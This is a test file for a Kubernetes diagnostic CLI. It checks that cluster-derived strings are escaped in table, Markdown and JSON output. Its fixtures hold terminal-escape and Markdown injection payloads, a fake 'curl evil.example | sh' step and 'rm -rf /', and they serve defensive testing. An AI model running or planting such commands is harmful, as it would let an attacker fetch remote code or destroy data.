// Issue 16 item 1: tenant-controlled strings (labels, annotations, Ingress hosts/paths, probe bytes,
// log lines) cannot rewrite the terminal or forge Markdown structure; JSON stays lossless.

import { describe, expect, it } from 'vitest';
import { analyzeFacts } from '../../../src/pipeline.js';
import { renderJson, renderMarkdown, renderTable, type Report } from '../../../src/report/index.js';
import { markdownCode, markdownFence, markdownText, neutralizeText } from '../../../src/report/neutralize.js';
import { loadFacts } from '../helpers.js';

const ESC = '\u001b';
// a forged verdict: clear the line, return the cursor, print a fake result and a fake command
const FORGE = `x${ESC}[2K\r  Verdict:    HEALTHY${ESC}]0;pwned\u0007\u009b31m\u202e next: curl evil.example | sh\u007f`;

/** Every control/format character a hostile string may carry (ANSI from --color is checked apart). */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function hostileReport(): Report {
  const facts = loadFacts('ingress-class-mismatch');
  // tenant text in labels, annotations, probe output, log lines, ingress host/path
  for (const p of facts.namespacePods.state === 'ok' ? facts.namespacePods.value : []) p.metadata.labels = { ...p.metadata.labels, [`evil${FORGE}`]: FORGE };
  if (facts.ingress.ingresses.state === 'ok') {
    for (const ing of facts.ingress.ingresses.value) {
      ing.metadata.annotations = { ...ing.metadata.annotations, 'kubernetes.io/ingress.class': `nginx${FORGE}` };
      for (const r of ing.spec.rules ?? []) r.host = `shop${FORGE}.example`;
    }
  }
  for (const p of facts.probes) {
    p.label = `${p.label}${FORGE}`;
    if (p.exec) p.exec = { ...p.exec, stderr: `< HTTP/1.1 200 OK\n< X-Evil: ${FORGE}\n`, stdout: `${FORGE}\n` };
  }
  facts.notes.push(`note ${FORGE}`);
  const r = analyzeFacts(facts).report;
  // and directly in the diagnosis text, as a check could quote any of it
  r.diagnosis.headline = `Ingress class ${FORGE} is wrong`;
  r.diagnosis.next = [...r.diagnosis.next, `kubectl get ingress ${FORGE}`];
  r.diagnosis.evidence[0].evidence.push(`log: ${FORGE}`);
  return r;
}

describe('neutralizeText', () => {
  it.each([
    ['ESC', `a${ESC}[2Kb`, 'a\\x1b[2Kb'],
    ['CR', 'a\rb', 'a\\rb'],
    ['BEL', 'a\u0007', 'a\\x07'],
    ['DEL', 'a\u007f', 'a\\x7f'],
    ['C1 CSI', 'a\u009b31m', 'a\\x9b31m'],
    ['bidi override', 'a\u202eb', 'a\\u202eb'],
    ['NUL', 'a\u0000', 'a\\x00'],
    ['newline (single line)', 'a\nb', 'a\\nb'],
    ['tab', 'a\tb', 'a b'],
    ['printable unicode', 'Zürich ✓ 東京', 'Zürich ✓ 東京'],
  ])('%s', (_name, input, want) => {
    expect(neutralizeText(input)).toBe(want);
  });

  it('keeps newlines only when asked', () => {
    expect(neutralizeText('a\nb\r\n', { multiline: true })).toBe('a\nb\\r\n');
  });
});

describe('table and verbose output neutralise every cluster- or probe-derived string', () => {
  it.each([
    ['table', { color: false, verbose: false }],
    ['verbose', { color: false, verbose: true }],
  ])('%s: no control characters reach the terminal', (_n, opts) => {
    const out = renderTable(hostileReport(), opts);
    expect(out).not.toMatch(UNSAFE);
    expect(out).toContain('\\x1b[2K\\r  Verdict:    HEALTHY'); // shown, not acted on
    // the only line starting with "  Verdict:" is k8snet's own
    expect(out.split('\n').filter((l) => l.startsWith('  Verdict:'))).toHaveLength(1);
  });

  it('with color, the only escape sequences are the SGR colours k8snet adds', () => {
    const out = renderTable(hostileReport(), { color: true, verbose: false });
    expect(out.replace(/\u001b\[\d+m/g, '')).not.toMatch(UNSAFE);
  });
});

describe('markdown', () => {
  const md = () => renderMarkdown(hostileReport());

  it('has no control characters', () => {
    expect(md()).not.toMatch(UNSAFE);
  });

  it('tenant text cannot forge table cells, headings, links or close code fences', () => {
    const r = hostileReport();
    r.diagnosis.headline = '| fake | cell |\n# Verdict: HEALTHY [click](http://evil.example) <img src=x>';
    r.steps[1].findings.unshift({ ...r.steps[1].findings[0], status: 'fail', summary: 'a | b | c | d' });
    r.diagnosis.next = ['```', '# forged heading', 'rm -rf / # ````'];
    const out = renderMarkdown(r);
    // every row of the step table has exactly the 4 unescaped pipes of its 3 cells
    for (const row of out.split('\n').filter((l) => l.startsWith('| '))) expect(row.match(/(?<!\\)\|/g)).toHaveLength(4);
    expect(out).not.toMatch(/^#+ Verdict/m);
    expect(out).not.toMatch(/(?<!\\)\[click(?<!\\)\]\(/);
    expect(out).not.toMatch(/(?<!\\)<img/);
    // the Next fence is longer than any backtick run inside it and closes only at its end
    const lines = out.split('\n');
    const open = lines.indexOf('### Next') + 1;
    const fence = lines[open].replace(/sh$/, '');
    expect(fence.length).toBeGreaterThan(4);
    expect(lines.slice(open + 1, open + 4)).toEqual(['```', '# forged heading', 'rm -rf / # ````']);
    expect(lines[open + 4]).toBe(fence);
  });

  it.each([
    ['*bold* _em_ `code`', '\\*bold\\* \\_em\\_ \\`code\\`'],
    ['# heading', '\\# heading'],
    ['1. item', '1\\. item'],
    ['a|b', 'a\\|b'],
    ['[x](y)', '\\[x\\](y)'],
    ['<b>', '\\<b\\>'],
  ])('markdownText(%j)', (input, want) => {
    expect(markdownText(input)).toBe(want);
  });

  it('code spans and fences cannot be closed by their content', () => {
    expect(markdownCode('a`b')).toBe("`a'b`");
    expect(markdownFence('sh', ['x ``` y'])).toEqual(['````sh', 'x ``` y', '````']);
  });
});

describe('json stays lossless', () => {
  it('keeps the raw bytes, escaped by JSON', () => {
    const r = hostileReport();
    const text = renderJson(r);
    expect(text).not.toMatch(UNSAFE);
    expect(JSON.parse(text).diagnosis.headline).toBe(`Ingress class ${FORGE} is wrong`);
  });
});

describe('k8snet policy output and error messages', () => {
  it('policy table and markdown neutralise labels and names from the cluster or manifests', async () => {
    const { runPolicyCommand } = await import('../../../src/cli/policy.js');
    const { ns, pod, policy, world } = await import('../policy/world-helpers.js');
    const W = world({
      namespaces: [ns('a'), ns('b')],
      pods: [pod('a', 'src', { app: 'src', note: FORGE }, { ip: '10.244.0.5' }), pod('b', 'dst', { app: 'dst' }, { ip: '10.244.0.6' })],
      policies: [
        policy('b', 'deny', { podSelector: { matchLabels: { app: 'dst' } }, ingress: [{ from: [{ podSelector: { matchLabels: { note: `${FORGE}|x` } } }] }] }),
      ],
    });
    for (const output of ['table', 'markdown'] as const) {
      const { text } = await runPolicyCommand({ src: 'a/src', dst: 'b/dst', port: '80', output, color: false }, W);
      expect(text).not.toMatch(UNSAFE);
      expect(text).toContain('\\x1b[2K');
    }
  });

  it('error messages (which quote API answers) are neutralised', async () => {
    const { reportError } = await import('../../../src/cli/output.js');
    const { ClusterError } = await import('../../../src/errors.js');
    let err = '';
    reportError(
      new ClusterError({ message: `could not read ${FORGE}`, why: `the API server said ${FORGE}`, next: 'retry' }),
      { out: () => undefined, err: (t) => (err += `${t}\n`), stderrIsTty: false, stdoutIsTty: false },
      false,
    );
    expect(err).not.toMatch(UNSAFE);
    expect(err).toContain('why:  the API server said x\\x1b[2K');
  });
});
